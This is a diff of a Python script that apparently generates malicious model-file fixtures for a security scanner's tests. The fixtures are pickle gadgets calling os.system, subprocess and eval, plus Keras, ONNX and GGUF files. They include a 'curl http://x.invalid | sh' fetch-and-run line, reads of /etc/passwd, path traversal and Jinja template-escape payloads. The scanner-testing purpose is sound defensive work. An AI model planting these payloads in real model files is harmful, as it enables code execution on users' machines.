@@ -9,211 +9,32 @@ import base64
 import bz2
 import gzip
 import io
+import json
 import lzma
 import struct
 import zipfile
 import zlib
 from collections.abc import Iterator
 
+from model_malicious_calls import (
+    CALLS,
+    COMMAND,
+    blob,
+    call,
+    called,
+    classic,
+    named,
+    raw,
+    text,
+    v4,
+    value,
+)
+
 Row = tuple[str, str, bytes]
-
-_CODE = "import os; os.system('echo marker')"
-_EXPR = "__import__('os').system('echo marker')"
-_COMMAND = "echo marker"
-
-
-def text(value: str) -> bytes:
-    raw = value.encode()
-    if len(raw) < 256:
-        return b"\x8c" + bytes([len(raw)]) + raw
-    return b"X" + struct.pack("<I", len(raw)) + raw
-
-
-def blob(value: bytes) -> bytes:
-    return b"B" + struct.pack("<I", len(value)) + value
-
-
-def named(module: str, name: str) -> bytes:
-    return text(module) + text(name) + b"\x93"
-
-
-def value(item: object) -> bytes:
-    if isinstance(item, bytes) and item[:1] == b"\xff":
-        return item[1:]  # opcodes as they are
-    if isinstance(item, str):
-        return text(item)
-    if isinstance(item, bytes):
-        return blob(item)
-    if item is None:
-        return b"N"
-    if isinstance(item, bool):
-        return b"\x88" if item else b"\x89"
-    if isinstance(item, int):
-        return b"J" + struct.pack("<i", item)
-    if isinstance(item, list):
-        return b"](" + b"".join(map(value, item)) + b"e"
-    if isinstance(item, dict):
-        return b"}(" + b"".join(value(k) + value(v) for k, v in item.items()) + b"u"
-    raise TypeError(item)
-
-
-def raw(opcodes: bytes) -> bytes:
-    return b"\xff" + opcodes
-
-
-def called(function: bytes, *args: object) -> bytes:
-    return function + b"(" + b"".join(map(value, args)) + b"tR"
-
-
-def v4(body: bytes) -> bytes:
-    return b"\x80\x04" + body + b"."
-
-
-def call(module: str, name: str, *args: object) -> bytes:
-    return v4(called(named(module, name), *args))
-
-
-def classic(module: str, name: str, argument: str) -> bytes:
-    """Protocol 0, as the oldest exploits look."""
-    return f"c{module}\n{name}\n(V{argument}\ntR.".encode()
-
-
-_CALLS: dict[str, list[tuple[str, str, tuple[object, ...]]]] = {
-    "builtins": [
-        ("builtins", "eval", (_EXPR,)),
-        ("builtins", "exec", (_CODE,)),
-        ("__builtin__", "execfile", ("/tmp/x.py",)),
-        ("builtins", "compile", (_CODE, "x", "exec")),
-        ("builtins", "__import__", ("os",)),
-        ("builtins", "open", ("/etc/hosts",)),
-        ("builtins", "globals", ()),
-        ("builtins", "breakpoint", ()),
-        ("builtins", "map", (raw(named("builtins", "eval")), [_EXPR])),
-        ("builtins", "setattr", (raw(named("collections", "OrderedDict")), "a", 1)),
-    ],
-    "process": [
-        ("os", "system", (_COMMAND,)),
-        ("posix", "popen", (_COMMAND,)),
-        ("nt", "system", ("dir",)),
-        ("os", "execvp", ("id", ["id"])),
-        ("os", "remove", ("x",)),
-        ("os", "kill", (1, 9)),
-        ("subprocess", "Popen", (["id"],)),
-        ("subprocess", "check_output", (["id"],)),
-        ("subprocess", "getoutput", ("id",)),
-        ("commands", "getoutput", ("id",)),
-        ("pty", "spawn", (["sh"],)),
-        ("multiprocessing.util", "spawnv_passfds", (b"id", ["id"], [])),
-        ("asyncio", "create_subprocess_shell", ("id",)),
-        ("webbrowser", "open", ("http://x.invalid",)),
-        ("signal", "raise_signal", (9,)),
-        ("sys", "exit", (0,)),
-    ],
-    "import-machinery": [
-        ("importlib", "import_module", ("os",)),
-        ("importlib", "reload", (raw(named("os", "path")),)),
-        ("importlib.machinery", "SourceFileLoader", ("x", "/tmp/x.py")),
-        ("importlib.util", "spec_from_file_location", ("x", "/tmp/x.py")),
-        ("_frozen_importlib", "__import__", ("os",)),
-        ("pkgutil", "resolve_name", ("os:system",)),
-        ("runpy", "run_path", ("/tmp/x.py",)),
-        ("zipimport", "zipimporter", ("/tmp/x.zip",)),
-        ("imp", "load_source", ("x", "/tmp/x.py")),
-        ("site", "addsitedir", ("/tmp",)),
-    ],
-    "installers-and-tools": [
-        ("pip", "main", (["install", "x"],)),
-        ("pip._internal", "main", (["install", "x"],)),
-        ("pip._internal.cli.main", "main", (["install", "x"],)),
-        ("ensurepip", "bootstrap", ()),
-        ("timeit", "timeit", (_CODE,)),
-        ("timeit", "main", (["x"],)),
-        ("cProfile", "run", (_CODE,)),
-        ("trace", "Trace.run", ({}, _CODE)),
-        ("pydoc", "locate", ("os.system",)),
-        ("doctest", "debug_script", (_CODE,)),
-        ("code", "interact", ()),
-        ("bdb", "Bdb.run", ({}, _CODE)),
-        ("pdb", "run", (_CODE,)),
-        ("unittest.mock", "_importer", ("os.system",)),
-        ("lib2to3.main", "main", ("x",)),
-        ("setuptools._distutils.spawn", "spawn", (["id"],)),
-        ("distutils.spawn", "spawn", (["id"],)),
-        ("idlelib.run", "Executive.runcode", ({}, "x")),
-        ("sqlite3", "connect", ("/tmp/x",)),
-        ("dataclasses", "make_dataclass", ("C", ["x"])),
-        ("typing", "get_type_hints", ({}, {}, {})),
-    ],
-    "libraries": [
-        ("numpy", "load", ("/tmp/x.npy", None, True)),
-        ("numpy.testing._private.utils", "runstring", (_CODE, {})),
-        ("numpy.f2py.crackfortran", "myeval", (_EXPR, {}, {})),
-        ("numpy", "memmap", ("/tmp/x", "uint8", "w+", 0, 1)),
-        ("numpy", "fromfile", ("/etc/hosts",)),
-        ("numpy.core", "_ufunc_reconstruct", ("os", "system")),
-        ("pandas", "eval", ("@x",)),
-        ("pandas", "read_pickle", ("http://x.invalid/a.pkl",)),
-        ("pandas.io.pickle", "read_pickle", ("x",)),
-        ("pandas", "read_csv", ("http://x.invalid/a",)),
-        ("joblib", "load", ("x",)),
-        ("joblib.externals.cloudpickle", "loads", (b"x",)),
-        ("torch", "load", ("x",)),
-        ("torch.hub", "load", ("a/b", "c")),
-        ("torch.utils.cpp_extension", "load_inline", ("a", "b")),
-        ("torch.ops", "load_library", ("/tmp/x.so",)),
-        ("torch.jit", "CompilationUnit", ("def f(): pass",)),
-        ("torch.fx.graph_module", "_forward_from_src", ("def forward(self): 1", {})),
-        ("sklearn.datasets", "fetch_openml", ("x",)),
-        ("sklearn.utils._testing", "check_skip_network", ()),
-        ("scipy.io", "loadmat", ("x",)),
-        ("sympy", "sympify", (_EXPR,)),
-        ("cloudpickle", "loads", (b"x",)),
-        ("dill._dill", "_create_code", (1, 2)),
-        ("yaml", "unsafe_load", ("x",)),
-        ("jinja2", "Template", ("{{ 1 }}",)),
-        ("IPython", "start_ipython", ()),
-        ("tensorflow", "io.read_file", ("x",)),
-        ("keras.models", "load_model", ("x",)),
-        ("transformers.utils", "import_utils.direct_transformers_import", ("x",)),
-    ],
-    "network": [
-        ("socket", "create_connection", (raw(b"X\x09\x00\x00\x00x.invalidK\x50\x86"),)),
-        ("socket", "gethostbyname", ("x.invalid",)),
-        ("urllib.request", "urlretrieve", ("http://x.invalid", "/tmp/x")),
-        ("http.client", "HTTPSConnection", ("x.invalid",)),
-        ("requests", "get", ("http://x.invalid",)),
-        ("httpx", "post", ("http://x.invalid",)),
-        ("aiohttp", "ClientSession", ()),
-        ("smtplib", "SMTP", ("x.invalid",)),
-        ("ftplib", "FTP", ("x.invalid",)),
-        ("ssl", "get_server_certificate", (raw(b"X\x09\x00\x00\x00x.invalidM\xbb\x01\x86"),)),
-        ("xmlrpc.client", "ServerProxy", ("http://x.invalid",)),
-        ("boto3", "client", ("s3",)),
-    ],
-    "files": [
-        ("shutil", "rmtree", ("/tmp/x",)),
-        ("io", "open", ("/etc/hosts",)),
-        ("_io", "FileIO", ("/etc/hosts",)),
-        ("codecs", "open", ("/etc/hosts",)),
-        ("pathlib", "Path.write_text", (raw(called(named("pathlib", "Path"), "x")), "y")),
-        ("tempfile", "mktemp", ()),
-        ("linecache", "getlines", ("/etc/hosts",)),
-        ("fileinput", "input", (["/etc/hosts"],)),
-        ("logging", "FileHandler", ("x.log",)),
-        ("logging.config", "fileConfig", ("x",)),
-        ("zipfile", "ZipFile", ("x",)),
-        ("tarfile", "open", ("x",)),
-        ("ctypes", "CDLL", ("libc.so.6",)),
-        ("mmap", "mmap", (-1, 10)),
-        ("glob", "glob", ("/*",)),
-        ("configparser", "RawConfigParser.read", ({}, "x")),
-        ("mailcap", "findmatch", ({}, "t", "v", "f", [])),
-    ],
-}
 
 
 def write_malicious() -> Iterator[Row]:
-    for source, calls in _CALLS.items():
+    for source, calls in CALLS.items():
         for module, name, args in calls:
             stem = f"{module}_{name}".replace(".", "_")
             yield source, f"{stem}_4.pkl", call(module, name, *args)
@@ -225,6 +46,7 @@ def write_malicious() -> Iterator[Row]:
         ("memo-tricks", _memo),
         ("nested-encoded", _nested),
         ("containers", _containers),
+        ("other-formats", _other_formats),
     ):
         for name, data in maker():
             yield source, name, data
@@ -233,24 +55,24 @@ def write_malicious() -> Iterator[Row]:
 def _gadgets() -> Iterator[tuple[str, bytes]]:
     imported = called(named("importlib", "import_module"), "os")
     getter = called(named("operator", "attrgetter"), "system")
-    caller = called(named("operator", "methodcaller"), "system", _COMMAND)
+    caller = called(named("operator", "methodcaller"), "system", COMMAND)
     numpy = named("numpy", "core")
-    yield "attrgetter.pkl", v4(called(called(getter, raw(imported)), _COMMAND))
+    yield "attrgetter.pkl", v4(called(called(getter, raw(imported)), COMMAND))
     yield "methodcaller.pkl", v4(called(caller, raw(imported)))
     yield (
         "attrgetter_on_package.pkl",
         v4(
             called(
-                called(called(named("operator", "attrgetter"), "os.system"), raw(numpy)), _COMMAND
+                called(called(named("operator", "attrgetter"), "os.system"), raw(numpy)), COMMAND
             )
         ),
     )
-    partial = called(named("functools", "partial"), raw(named("os", "system")), _COMMAND)
+    partial = called(named("functools", "partial"), raw(named("os", "system")), COMMAND)
     yield "partial.pkl", v4(called(partial))
     yield "partial_uncalled.pkl", v4(partial)
     yield (
         "reduce.pkl",
-        call("functools", "reduce", raw(named("os", "system")), [_COMMAND], _COMMAND),
+        call("functools", "reduce", raw(named("os", "system")), [COMMAND], COMMAND),
     )
     yield "operator_call.pkl", call("operator", "call", raw(named("os", "getcwd")))
     yield (
@@ -266,12 +88,12 @@ def _gadgets() -> Iterator[tuple[str, bytes]]:
                     raw(called(named("builtins", "getattr"), raw(numpy), "os")),
                     "system",
                 ),
-                _COMMAND,
+                COMMAND,
             )
         ),
     )
-    yield "dotted_os.pkl", call("random", "_os.system", _COMMAND)
-    yield "dotted_sys.pkl", call("torch.serialization", "os.system", _COMMAND)
+    yield "dotted_os.pkl", call("random", "_os.system", COMMAND)
+    yield "dotted_sys.pkl", call("torch.serialization", "os.system", COMMAND)
     yield "dotted_builtins.pkl", call("numpy", "__builtins__.get", "eval")
     yield "dotted_class.pkl", v4(named("collections", "OrderedDict.__class__.__subclasses__"))
     yield "defaultdict.pkl", call("collections", "defaultdict", raw(named("os", "getcwd")))
@@ -308,12 +130,12 @@ def _gadgets() -> Iterator[tuple[str, bytes]]:
         ),
     )
     yield "newobj.pkl", v4(named("subprocess", "Popen") + b"(" + value(["id"]) + b"t\x81")
-    yield "inst.pkl", f"(S'{_COMMAND}'\nios\nsystem\n.".encode()
-    yield "obj.pkl", b"(cos\nsystem\n" + b"S'" + _COMMAND.encode() + b"'\no."
+    yield "inst.pkl", f"(S'{COMMAND}'\nios\nsystem\n.".encode()
+    yield "obj.pkl", b"(cos\nsystem\n" + b"S'" + COMMAND.encode() + b"'\no."
     yield "crlf.pkl", b"cos\nsystem\n(S'id'\ntR."
     yield (
         "computed_name.pkl",
-        v4(called(text("os") + called(named("builtins", "str"), "system") + b"\x93", _COMMAND)),
+        v4(called(text("os") + called(named("builtins", "str"), "system") + b"\x93", COMMAND)),
     )
     yield "uncommon_package.pkl", call("evilpkg.tools", "run_shell", "curl http://x.invalid | sh")
     yield "rot13.pkl", call("codecs", "decode", "vzcbeg bf", "rot13")
@@ -353,7 +175,7 @@ def _writes() -> Iterator[tuple[str, bytes]]:
 
 
 def _memo() -> Iterator[tuple[str, bytes]]:
-    run = b"V" + _COMMAND.encode() + b"\n\x85R."
+    run = b"V" + COMMAND.encode() + b"\n\x85R."
     yield "overwritten.pkl", b"\x80\x04Vtorch\np0\n0Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + run
     yield (
         "reordered.pkl",
@@ -404,7 +226,7 @@ def _memo() -> Iterator[tuple[str, bytes]]:
 
 
 def _nested() -> Iterator[tuple[str, bytes]]:
-    inner = call("os", "system", _COMMAND)
+    inner = call("os", "system", COMMAND)
     yield "constant.pkl", v4(blob(inner))
     yield "loads.pkl", call("pickle", "loads", inner)
     yield "load_from_bytes.pkl", call("torch.storage", "_load_from_bytes", inner)
@@ -432,7 +254,7 @@ def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
 
 
 def _containers() -> Iterator[tuple[str, bytes]]:
-    inner = call("os", "system", _COMMAND)
+    inner = call("os", "system", COMMAND)
     torch_like = {
         "archive/data.pkl": inner,
         "archive/version": b"3\n",
@@ -500,3 +322,61 @@ def _joblib(objects: bytes, after: bytes = b"", hidden: bytes = b"") -> bytes:
     state = b"}(" + text("shape") + b"K" + bytes([length]) + b"\x85" + text("dtype") + dtype + b"ub"
     body = hidden + b"." if hidden else objects
     return b"\x80\x04](" + wrapper + state + body + after + b"e."
+
+
+def _keras(name: str, config: object, module: str) -> bytes:
+    own = {"class_name": name, "config": config, "module": module, "registered_name": name}
+    return _zip(
+        {
+            "metadata.json": b"{}",
+            "config.json": json.dumps(
+                {"class_name": "Sequential", "config": {"layers": [own]}, "module": "keras"}
+            ).encode(),
+            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64,
+        }
+    )
+
+
+def _field(number: int, value: bytes | str) -> bytes:
+    plain = value.encode() if isinstance(value, str) else value
+    length, size = b"", len(plain)
+    while size >= 0x80:
+        length += bytes([size & 0x7F | 0x80])
+        size >>= 7
+    return bytes([number << 3 | 2]) + length + bytes([size]) + plain
+
+
+def _other_formats() -> Iterator[tuple[str, bytes]]:
+    """Keras, TensorFlow, ONNX and GGUF: what runs or reaches out when they are loaded or used."""
+    code = base64.b64encode(b"\xe3\0\0\0system\0os").decode()
+    yield "lambda.keras", _keras("Lambda", {"function": [code, None, None]}, "keras.layers")
+    yield "function.keras", _keras("function", "system", "os")
+    yield "popen.keras", _keras("Popen", {}, "subprocess")
+    yield "get_file.keras", _keras("function", "get_file", "keras.utils")
+    for operation in ("WriteFile", "ReadFile", "PyFunc"):
+        nodes = b"".join(
+            _field(1, _field(1, name) + _field(2, name)) for name in ("Const", "MatMul", operation)
+        )
+        yield (
+            f"{operation}.pb",
+            b"\x08\x01" + _field(2, _field(1, _field(4, "serve")) + _field(2, nodes)),
+        )
+    for index, location in enumerate(("/etc/passwd", "../../x", "C:/x")):
+        tensor = _field(13, _field(1, "location") + _field(2, location)) + b"\x70\x01"
+        graph = _field(1, _field(1, "x") + _field(2, "y") + _field(4, "Conv")) + _field(5, tensor)
+        graph += _field(2, "g")
+        yield (
+            f"outside_{index}.onnx",
+            b"\x08\x08" + _field(2, "pytorch") + _field(7, graph) + _field(8, b"\x10\x0d"),
+        )
+    for index, template in enumerate(
+        ("{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}")
+    ):
+        pairs = b"".join(
+            struct.pack("<Q", len(key)) + key + b"\x08\0\0\0" + struct.pack("<Q", len(item)) + item
+            for key, item in (
+                (b"general.architecture", b"llama"),
+                (b"tokenizer.chat_template", template.encode()),
+            )
+        )
+        yield f"template_{index}.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + pairs
